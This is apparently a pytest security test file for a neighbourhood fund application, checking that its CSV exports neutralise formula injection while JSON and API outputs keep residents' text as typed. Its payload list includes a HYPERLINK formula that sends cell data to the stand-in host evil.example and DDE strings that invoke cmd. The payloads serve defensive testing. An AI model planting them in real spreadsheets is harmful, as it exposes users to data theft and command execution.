"""CSV injection: text a resident typed is never run as a formula when the CSV is opened."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from juryfund.domain.spreadsheet import FORMULA_TRIGGERS, spreadsheet_cell
from juryfund.web.transparency.exports import _csv_cell

from .conftest import Spec

pytestmark = [pytest.mark.transparency, pytest.mark.security]

#: One payload per dangerous start: the classic DDE and hyperlink attacks, and blank-led variants.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n -1+1",
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rx", "'\rx"),
        ("=", "'="),
        # Blanks before a trigger are looked past, since importers may trim them.
        (" =1+1", "' =1+1"),
        ("  \t-1", "'  \t-1"),
        ("\n@x", "'\n@x"),
        ("\u00a0+x", "'\u00a0+x"),
        # Harmless text, including triggers later in the cell, is left alone.
        ("", ""),
        (" ", " "),
        ("Hoffest", "Hoffest"),
        ("Kiezfest = Freude", "Kiezfest = Freude"),
        ('Fest, "groß"\nund bunt', 'Fest, "groß"\nund bunt'),
        ("'=already quoted", "'=already quoted"),
        ("2026-03-01T17:00:00Z", "2026-03-01T17:00:00Z"),
        ("حديقة الجيران", "حديقة الجيران"),
        # Numbers (and None) pass through as they are, negative ones included.
        (0, 0),
        (-1250, -1250),
        (12.5, 12.5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, expected):
    result = spreadsheet_cell(value)
    assert result == expected and type(result) is type(expected)


def test_every_trigger_is_covered():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for trigger in FORMULA_TRIGGERS:
        assert spreadsheet_cell(f"{trigger}x") == f"'{trigger}x"


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("amount_eur", "-12.50", "-12.50"),
        ("amount_cents", -1250, -1250),
        ("fund_id", 3, 3),
        ("decided_at", "2026-03-01T17:00:00Z", "2026-03-01T17:00:00Z"),
        ("amount_eur", None, ""),
        ("title", "-12.50", "'-12.50"),
        ("applicant", None, ""),
        ("some_future_column", "=1+1", "'=1+1"),
    ],
)
def test_csv_columns_numbers_stay_numbers_text_is_escaped(key, value, expected):
    assert _csv_cell(key, value) == expected


def is_dangerous(cell: str) -> bool:
    """Would a spreadsheet (trimming blanks on import) read this cell as a formula?"""
    return cell[:1] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS


@pytest.fixture
def hostile(decide):
    """Approved decisions whose title, organisation or published name start like a formula."""
    specs = []
    for payload in PAYLOADS:
        specs.append(Spec(payload, requested=10000, kind="initiative", organisation=payload))
        specs.append(
            Spec(f"Aktion {payload}", requested=10000, kind="person", name=payload, consent=True)
        )
    return decide(specs)


def test_csv_cells_never_start_like_a_formula(client, area, hostile):
    response = client.get(f"/{area.slug}/decisions.csv")
    assert response.status_code == 200 and response.is_streamed
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    json_rows = client.get(f"/{area.slug}/decisions.json").get_json()["decisions"]
    assert len(rows) == len(json_rows) == 2 * len(PAYLOADS)
    for row, record in zip(rows, json_rows, strict=True):
        assert [key for key, cell in row.items() if is_dangerous(cell)] == []
        for key in ("title", "applicant"):
            # The text itself is kept whole: only the quote is added, and only where needed.
            expected = record[key] or ""
            assert row[key] in (expected, "'" + expected)
            assert (row[key] != expected) == is_dangerous(expected)
        # Numbers are untouched.
        assert int(row["amount_cents"]) == record["amount_cents"] == 10000
        assert row["amount_eur"] == record["amount_eur"] == "100.00"
        assert int(row["fund_id"]) == record["fund_id"]
    titles = {row["title"] for row in rows}
    assert {"'" + payload for payload in PAYLOADS} <= titles


def test_json_and_api_keep_the_text_as_typed(client, area, hostile):
    """JSON is no spreadsheet: its consumers get exactly what the applicant wrote."""
    downloaded = client.get(f"/{area.slug}/decisions.json").get_json()["decisions"]
    api = client.get(f"/api/v1/areas/{area.slug}/decisions?per_page=100").get_json()["items"]
    for records in (downloaded, api):
        assert {r["title"] for r in records} >= set(PAYLOADS)
        assert not any(r["title"].startswith("'") for r in records)
        assert not any((r["applicant"] or "").startswith("'") for r in records)
        applicants = {r["applicant"] for r in records}
        assert '=HYPERLINK("http://evil.example/?d="&A1,"Details")' in applicants
        assert "@SUM(1+1)*cmd|' /C calc'!A0" in applicants
